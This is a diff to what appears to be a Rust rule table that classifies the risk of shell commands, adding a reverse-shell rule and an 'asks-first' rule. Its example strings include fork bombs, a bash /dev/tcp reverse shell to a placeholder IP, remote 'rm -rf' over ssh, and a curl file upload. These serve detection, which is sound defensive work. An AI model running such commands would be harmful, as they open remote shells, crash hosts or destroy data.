@@ -27,11 +27,17 @@ rules! {
     FORK_BOMB = Rule::new("fork-bomb", EffectKind::System, Risk::Critical, "is a fork bomb: {} calls itself without end", "是 fork 炸弹：{} 无限调用自身")
         .absurd().priority(Priority::P0)
         .examples(&[":(){ :|:& };:", ":() { :|:& };:", "b(){ b|b& };b"], &["f() { echo hi; }; f"]);
+    REVERSE_SHELL = Rule::new("reverse-shell", EffectKind::SecretSend, Risk::Critical, "gives another machine a shell on this one: {}", "让另一台机器得到本机的 shell：{}")
+        .absurd().priority(Priority::P0)
+        .examples(&["bash -i >& /dev/tcp/203.0.113.7/9001 0>&1"], &["bash -c 'echo hi'"]);
     REMOTE_DELETE = Rule::new("remote-delete", EffectKind::Delete, Risk::High, "deletes {} on another machine", "删除另一台机器上的 {}")
         .reversible(Reversible::No)
         .examples(&["ssh web1 'rm -rf /srv/app'"], &["ssh web1 uptime"]);
     REMOTE_CHANGE = Rule::new("remote-change", EffectKind::NetworkWrite, Risk::High, "changes {} on another machine", "更改另一台机器上的 {}")
         .examples(&["ssh web1 'echo x > /srv/a'"], &["ssh web1 uptime"]);
+    ASKS_FIRST = Rule::new("asks-first", EffectKind::Delete, Risk::Low, "asks a person before each step: {}", "每一步都会先询问：{}")
+        .priority(Priority::P2)
+        .examples(&["rm -i notes.txt", "find . -name '*.rs' -ok rm {} ';'"], &["rm -f notes.txt", "rm -i -f notes.txt"]);
     SEND = Rule::new("send-away", EffectKind::NetworkWrite, Risk::High, "sends data to {}", "向 {} 发送数据")
         .examples(&["curl -d @report.txt https://example.com/in"], &["curl https://example.com"]);
     SEND_SECRET = Rule::new("send-secret", EffectKind::SecretSend, Risk::Critical, "sends a secret away: {}", "把机密发送出去：{}")
